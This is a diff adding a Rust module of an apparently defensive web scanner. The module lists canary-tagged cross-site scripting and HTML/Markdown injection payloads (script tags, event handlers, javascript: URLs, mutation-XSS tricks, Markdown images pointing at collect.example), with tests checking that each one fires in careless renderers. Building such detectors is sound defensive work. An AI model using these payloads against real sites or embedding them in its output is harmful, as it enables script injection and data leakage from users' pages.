@@ -1,0 +1,158 @@
+//! Texts that become more than text where a page forgets that they are others': markup, attributes, addresses, Markdown.
+//!
+//! Each holds a random word wherever it would do something, and another one in front, by which it is seen that the text
+//! came to a page at all.
+
+use portcullis_core::secret::random_bytes;
+
+/// Stands for the random word.
+const WORD: &str = "{w}";
+/// The domain of hosts that nothing may lead to (RFC 2606).
+const COLLECTS: &str = "collect.example";
+
+/// What a page may keep, forward or render.
+const STORED: &[&str] = &[
+    "<script>{w}()</script>",
+    "\"><script>{w}()</script>",
+    "'><img src=x onerror={w}()>",
+    "<img src=x onerror={w}()>",
+    "<svg onload={w}()>",
+    "<svg><script>{w}()</script></svg>",
+    "<math><a xlink:href=\"javascript:{w}()\">x</a></math>",
+    "<a href=\"javascript:{w}()\">x</a>",
+    "<a href=\" java&#9;script:{w}()\">x</a>",
+    "<iframe srcdoc=\"<script>{w}()</script>\"></iframe>",
+    "<iframe src=\"javascript:{w}()\"></iframe>",
+    "<object data=\"data:text/html,<script>{w}()</script>\"></object>",
+    "<embed src=\"https://{w}.{c}/e\">",
+    "<meta http-equiv=\"refresh\" content=\"0;url=https://{w}.{c}/\">",
+    "<base href=\"https://{w}.{c}/\">",
+    "<form action=\"https://{w}.{c}/\"><button>x</button></form>",
+    "<button formaction=\"javascript:{w}()\">x</button>",
+    "<style>@import \"https://{w}.{c}/s\"</style>",
+    "<p style=\"background:url(https://{w}.{c}/b)\">x</p>",
+    "<link rel=\"stylesheet\" href=\"https://{w}.{c}/l\">",
+    "<input autofocus onfocus=\"{w}()\">",
+    "<details open ontoggle=\"{w}()\">x</details>",
+    "</textarea></title></style><script>{w}()</script>",
+    "<noscript><p title=\"</noscript><img src=x onerror={w}()>\"></noscript>",
+    "<svg></p><style><a id=\"</style><img src=x onerror={w}()>\">",
+    "\" autofocus onfocus=\"{w}()",
+    "' onmouseover='{w}()",
+    "&lt;img src=x onerror={w}()&gt;",
+    "<img name=\"{w}\">",
+    "<x-{w} onclick={w}()>x",
+    "<img src=\"https://{w}.{c}/p.png\">",
+    "![x](https://{w}.{c}/p.png)",
+    "![x](x \"y\"onerror={w}())",
+    "![x\"onerror=\"{w}()](x)",
+    "[x](javascript:{w}())",
+    "[x](data:text/html,<script>{w}()</script>)",
+    "[x](https://{w}.{c}/a)",
+    "![x](//{w}.{c}/p.png)",
+    "[x](//{w}.{c}/a)",
+    "`</code><script>{w}()</script>`",
+];
+
+/// What a page may repeat of the request that asked for it.
+const REFLECTED: &[&str] = &[
+    "<script>{w}()</script>",
+    "\"><img src=x onerror={w}()>",
+    "'><svg onload={w}()>",
+    "\" autofocus onfocus=\"{w}()",
+    "' onmouseover='{w}()",
+    "javascript:{w}()",
+    "</title></textarea></script><script>{w}()</script>",
+];
+
+/// A text to put in, and how it is found again.
+#[derive(Debug, Clone)]
+pub(in crate::checks) struct Payload {
+    /// The word in whatever would do something.
+    pub(in crate::checks) word: String,
+    /// The text that would.
+    pub(in crate::checks) bait: String,
+}
+
+impl Payload {
+    fn new(form: &str) -> Self {
+        let word = word();
+        Self { bait: form.replace(WORD, &word).replace("{c}", COLLECTS), word }
+    }
+
+    /// The word in front.
+    pub(in crate::checks) fn before(&self) -> String {
+        format!("seen{}", self.word)
+    }
+
+    /// All of it.
+    pub(in crate::checks) fn text(&self) -> String {
+        format!("{} {}", self.before(), self.bait)
+    }
+
+    /// A text like it that is harmless everywhere.
+    pub(in crate::checks) fn harmless() -> Self {
+        Self::new("{w} and no more")
+    }
+
+    pub(in crate::checks) fn stored() -> Vec<Self> {
+        STORED.iter().map(|form| Self::new(form)).collect()
+    }
+
+    pub(in crate::checks) fn reflected() -> Vec<Self> {
+        REFLECTED.iter().map(|form| Self::new(form)).collect()
+    }
+}
+
+/// A random word of letters that stand in no word of any language next to each other.
+pub(in crate::checks) fn word() -> String {
+    const LETTERS: &[u8; 16] = b"bcdfghjkmnpqrtvw";
+    let letter = |byte: &u8| char::from(LETTERS.get(usize::from(*byte % 16)).copied().unwrap_or(b'x'));
+    random_bytes::<14>().iter().map(letter).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use std::collections::BTreeSet;
+
+    use super::Payload;
+    use crate::checks::markup::sinks::{Author, sinks};
+
+    #[test]
+    fn every_text_has_a_word_of_its_own_and_no_hole() {
+        let all: Vec<Payload> = Payload::stored().into_iter().chain(Payload::reflected()).collect();
+        let words: BTreeSet<&str> = all.iter().map(|payload| payload.word.as_str()).collect();
+        assert_eq!(words.len(), all.len());
+        for payload in &all {
+            assert!(payload.bait.contains(&payload.word) && !payload.bait.contains("{w}"), "{payload:?}");
+        }
+    }
+
+    /// A text that is harmless wherever it is put raw would prove nothing.
+    #[test]
+    fn every_text_does_something_in_some_careless_place() {
+        let markdown = |bait: &str| {
+            // The most careless renderer there is: it puts what it finds into attributes as it stands.
+            let (text, address) = bait.trim_start_matches('!').split_once("](").unwrap_or((bait, ""));
+            let (text, address) = (text.trim_start_matches('['), address.trim_end_matches(')'));
+            match bait.starts_with('!') {
+                true => format!("<img alt=\"{text}\" src=\"{}\">", address.replacen(' ', "\" title=", 1)),
+                false => format!("<a href=\"{address}\">{text}</a>"),
+            }
+        };
+        for payload in Payload::stored().into_iter().chain(Payload::reflected()) {
+            let bait = payload.bait.as_str();
+            let places = [
+                format!("<p>{bait}</p>"),
+                format!("<input value=\"{bait}\">"),
+                format!("<input value='{bait}'>"),
+                format!("<title>{bait}</title>"),
+                format!("<a href=\"{bait}\">x</a>"),
+                bait.replace("&lt;", "<").replace("&gt;", ">"),
+                markdown(bait),
+            ];
+            let found = places.iter().any(|page| !sinks(page, &payload.word, Author::Model).is_empty());
+            assert!(found, "{bait}");
+        }
+    }
+}
